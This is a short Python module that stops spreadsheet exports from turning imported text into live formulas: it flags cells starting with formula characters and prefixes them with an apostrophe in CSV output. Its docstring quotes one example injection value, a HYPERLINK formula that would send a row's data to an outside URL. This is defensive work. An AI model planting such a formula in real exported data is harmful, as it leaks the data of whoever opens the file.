"""Text from the case data in a spreadsheet, never as a live formula.

Excel and LibreOffice read a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (a
leading tab or carriage return is skipped before they look), so a name imported as
``=HYPERLINK("http://…?x="&A1)`` would become a live link that sends the row away when the
file is opened. `looks_like_formula` is the one test for that, used by every export that a
spreadsheet opens: the Excel workbook stores such text as a text cell (`reports.excel`); a
CSV has no cell types, so there the text gets a leading apostrophe (`csv_cell`), which makes
a spreadsheet take the cell as text.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would take `text` for a formula."""
    return text.startswith(FORMULA_START)


def csv_cell(value: object) -> object:
    """`value` as a CSV cell: text a spreadsheet would take for a formula gets a leading
    apostrophe; everything else is unchanged."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for `csv.writer.writerow`, every cell through `csv_cell`."""
    return [csv_cell(v) for v in values]
